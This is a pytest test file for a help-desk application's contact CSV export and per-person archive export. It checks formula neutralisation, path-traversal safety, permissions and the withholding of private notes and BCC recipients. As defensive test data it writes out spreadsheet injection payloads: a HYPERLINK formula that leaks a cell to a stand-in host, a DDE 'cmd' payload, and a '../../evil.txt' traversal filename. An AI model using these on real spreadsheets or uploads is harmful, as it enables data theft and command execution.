"""Contacts leave as files: many as CSV without formulas, one person with all that is theirs and no more."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from uuid import uuid4

import pytest
from django.utils import timezone

from emailhub.accounts.models import Company
from emailhub.desk.contact_export import HEADER, as_csv, export_contacts, without_formula
from emailhub.desk.contacts import add_phone, create_contact, edit_contact
from emailhub.desk.directory import Selection
from emailhub.desk.errors import ContactsNotAllowedError
from emailhub.desk.importing.columns import guess
from emailhub.desk.importing.people import read_person
from emailhub.desk.note import note
from emailhub.desk.person_export import export_person
from emailhub.desk.segments import create_segment, set_segments
from tests.cast import CARLA, Cast
from tests.web import desk

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example?x="&A1;"click")',
    "=cmd|' /C calc'!A0",
    "@import",
    "+34 600",
]


def exported(cast: Cast, selection: Selection = Selection()) -> list[list[str]]:  # noqa: B008
    content = b"".join(export_contacts(cast.ana, selection, now=timezone.now()))
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_a_formula(cell: str) -> None:
    (row,) = csv.reader(io.StringIO(as_csv([(cell, "safe")]).decode(), newline=""))
    assert row == [f"'{cell}", "safe"]


def test_an_apostrophe_before_a_word_is_left_alone() -> None:
    assert without_formula("'tis") == "'tis"


def test_a_name_that_is_a_formula_leaves_as_text_and_is_read_again_as_it_was(inside: Cast) -> None:
    create_contact(inside.dealer, name="=1+1", address="eva@x.example", phone="600 111 222")
    edit_contact(inside.carla, organisation="@home", account_number="-7", language="es")
    set_segments(inside.carla, [create_segment(inside.dealer, "+plus", by=inside.ana)], by=inside.ana)
    header, *rows = exported(inside)
    assert tuple(header) == HEADER
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")] == []
    mapping = guess(header)
    people = {person.name: person for person in (read_person(row, mapping, region=None) for row in rows)}
    assert people["=1+1"].phones == ("+34600111222",)
    carla = people["Carla Ruiz"]
    assert (carla.organisation, carla.account_number, carla.segments) == ("@home", "-7", ("+plus",))


def test_the_export_holds_what_the_list_shows(inside: Cast) -> None:
    for name in ("Eva", "Ida"):
        create_contact(inside.dealer, name=name)
    assert [row[0] for row in exported(inside)[1:]] == ["Carla Ruiz", "Eva", "Ida"]
    assert [row[0] for row in exported(inside, Selection(words="eva"))[1:]] == ["Eva"]


@pytest.mark.parametrize("who", ["ben", "vera"])
def test_exporting_is_for_who_manages(inside: Cast, who: str) -> None:
    with pytest.raises(ContactsNotAllowedError):
        export_contacts(getattr(inside, who), Selection(), now=timezone.now())
    with pytest.raises(ContactsNotAllowedError):
        export_person(inside.carla, io.BytesIO(), by=getattr(inside, who), now=timezone.now())


def archive_of(cast: Cast) -> zipfile.ZipFile:
    into = io.BytesIO()
    export_person(cast.carla, into, by=cast.ana, now=timezone.now())
    return zipfile.ZipFile(into)


def test_a_person_gets_their_card_their_tickets_and_the_mails_from_and_to_them(inside: Cast) -> None:
    add_phone(inside.carla, "600 111 222")
    ticket = desk.open_ticket(inside.service, inside.carla)
    came = desk.receive(ticket, "It drips.")
    desk.attach(came, "../../evil.txt", b"drip", "text/plain")
    left = desk.send(ticket, inside.ana, "We come.", bcc=[["Boss", "boss@dealer.example"]])
    archive = archive_of(inside)
    person = json.loads(archive.read("person.json"))
    assert person["contact"]["emails"] == [CARLA]
    assert person["contact"]["phones"] == ["+34600111222"]
    assert [one["number"] for one in person["tickets"]] == [ticket.number]
    assert [(one["direction"], one["text"]) for one in person["messages"]] == [
        ("received", "It drips."),
        ("sent", "We come."),
    ]
    assert person["complete"]
    folder = f"messages/{ticket.number}-{came.message.pk}"
    assert b"It drips." in archive.read(f"{folder}/message.eml")
    assert f"messages/{ticket.number}-{left.message.pk}/message.eml" in archive.namelist()
    files = [name for name in archive.namelist() if "evil" in name]
    assert len(files) == 1
    assert files[0].startswith(folder)
    assert ".." not in files[0]
    assert archive.read(files[0]) == b"drip"


def test_notes_and_hidden_recipients_are_not_handed_out(inside: Cast) -> None:
    ticket = desk.open_ticket(inside.service, inside.carla)
    desk.send(ticket, inside.ana, "We come.", bcc=[["Boss", "boss@dealer.example"]])
    note(ticket, by=inside.ana, html="<p>Difficult customer</p>", key=uuid4(), now=timezone.now())
    archive = archive_of(inside)
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"boss@dealer.example" not in everything
    assert b"Difficult" not in everything


def test_what_the_advisor_may_not_read_is_left_out_and_that_is_said(inside: Cast) -> None:
    Company.objects.filter(pk=inside.dealer.pk).update(managers_read_all=False)
    inside.ana.company.refresh_from_db()
    desk.receive(desk.open_ticket(inside.parts, inside.carla, "Secret wheels"), "Secret wheels")
    person = json.loads(archive_of(inside).read("person.json"))
    assert (person["complete"], person["tickets"], person["messages"]) == (False, [], [])
